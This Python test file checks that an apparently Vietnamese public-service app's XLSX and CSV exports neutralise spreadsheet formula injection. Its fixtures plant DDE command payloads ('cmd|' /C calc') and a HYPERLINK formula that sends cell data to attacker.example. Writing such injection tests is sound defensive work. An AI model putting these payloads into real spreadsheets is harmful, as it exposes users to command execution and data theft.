"""No text a user typed becomes a formula in any spreadsheet the app writes (issue 20, item 2).

Formula-like text is planted through the real services where people type it
(the applicant's name and address at the desk, a handover note, the citizen's
anonymous rating comment, a nonconformity's description), then every XLSX the
app writes (dossier list, Mẫu 07, the personal-data export, the ISO pack's
workbooks) is opened as a spreadsheet program would: no cell holds a formula,
and the planted text is there, as text. The CSV follows the OWASP rule.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from contextlib import contextmanager
from datetime import date

import pytest
from openpyxl import load_workbook

from app.domain.objectives import parse_period
from app.domain.workflow import Action, IdKind
from app.services import citizen, dashboard, documents, iso_pack, privacy, processing, reception, reports
from printing import reports as printed
from printing.workbook import csv_field, csv_line
from tests.citizen_states import ID_NUMBER, LOOK_AT, People, make_states, vn
from tests.integration.test_citizen import GOOD

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem hồ sơ")'
PLANTED = {
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+84 thôn Đông=1+2",
    "note": "-2+3+cmd|' /C calc'!A0",
    "comment": HYPERLINK,
}


@pytest.fixture
def planted(db_session, world):
    a = world.a
    tokens = make_states(db_session, People(a.clerk, a.officer, a.leader), a.procedure)
    citizen.rate(db_session, tokens["returned"], GOOD, PLANTED["comment"], now=LOOK_AT)
    applicant = reception.ApplicantInput(name=PLANTED["name"], id_kind=IdKind.CITIZEN_ID, id_number=ID_NUMBER,
                                         phone="0912345678", address=PLANTED["address"])
    dossier = reception.receive_dossier(db_session, a.clerk, reception.ReceptionInput(
        procedure_id=a.procedure.id, applicant=applicant,
        documents=(reception.DocumentSpec("Tờ khai theo mẫu", 1),)), now=vn(26, 11, 9))
    processing.apply_action(db_session, a.clerk, dossier.id, processing.ActionInput(
        Action.HAND_OVER, dossier.version, reason=PLANTED["note"]), now=vn(26, 11, 10))
    db_session.flush()
    return world


def _formulas(xlsx: bytes) -> list[str]:
    """The formulas in every sheet of a workbook, read from its XML as Excel would."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [match for name in book.namelist() if name.startswith("xl/worksheets/")
                for match in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode("utf-8"))]


def _texts(xlsx: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(xlsx))
    found = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    found.add(cell.value)
    return found


def _contains(texts: set[str], planted: str) -> bool:
    return any(planted in text for text in texts)


def test_every_workbook_writes_planted_text_as_text(db_session, planted):
    a = planted.a
    period = parse_period("2026")
    drill = reports.Drill("population", period)
    workbooks = {
        "dossier list": printed.xlsx(dashboard.list_report(db_session, a.leader, [a.unit], drill, now=LOOK_AT,
                                                           fmt="xlsx")),
        "logbook": documents.logbook(db_session, a.leader, a.unit.id, date(2026, 11, 1), date(2026, 12, 1),
                                     now=LOOK_AT, xlsx=True).content,
        "personal data": privacy.person_export(db_session, a.leader, ID_NUMBER, now=LOOK_AT, fmt="xlsx")[0],
    }
    pack = iso_pack.build(db_session, a.leader, a.unit.id, parse_period("2026-11"), base_url="http://x", now=LOOK_AT)
    with zipfile.ZipFile(pack.content) as archive:
        for name in archive.namelist():
            if name.endswith(".xlsx"):
                workbooks[f"ISO pack {name}"] = archive.read(name)
    pack.content.close()

    for label, content in workbooks.items():
        assert _formulas(content) == [], label
        _texts(content)  # every string cell is a string, never a formula
    assert _contains(_texts(workbooks["dossier list"]), PLANTED["name"])
    logbook = _texts(workbooks["logbook"])
    assert _contains(logbook, PLANTED["name"]) and _contains(logbook, PLANTED["address"])
    personal = _texts(workbooks["personal data"])
    assert _contains(personal, PLANTED["comment"]) and _contains(personal, PLANTED["address"])


def test_the_csv_list_neutralises_formula_like_text(db_session, planted):
    a = planted.a
    drill = reports.Drill("population", parse_period("2026"))

    @contextmanager
    def reader():  # type: ignore[no-untyped-def]
        yield db_session

    body = "".join(dashboard.list_csv(db_session, a.leader, [a.unit], drill, now=LOOK_AT)(reader))
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    fields = [field for row in rows for field in row]
    assert "'" + PLANTED["name"] in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(line.startswith('"') for line in body.lstrip("\ufeff").splitlines())  # every field quoted


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+84912345678", "'+84912345678"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\uff1d1+1", "'\uff1d1+1"), ("Nguyễn = Bình", "Nguyễn = Bình"), (-5, "-5"), (2.5, "2.5"),
    (None, ""), ("", ""),
])
def test_csv_fields_follow_the_owasp_rule(value, shown):
    assert csv_field(value) == shown


def test_a_csv_line_quotes_every_field_and_doubles_quotes():
    assert csv_line(['=a"b', 3, None]) == '"\'=a""b","3",""\r\n'
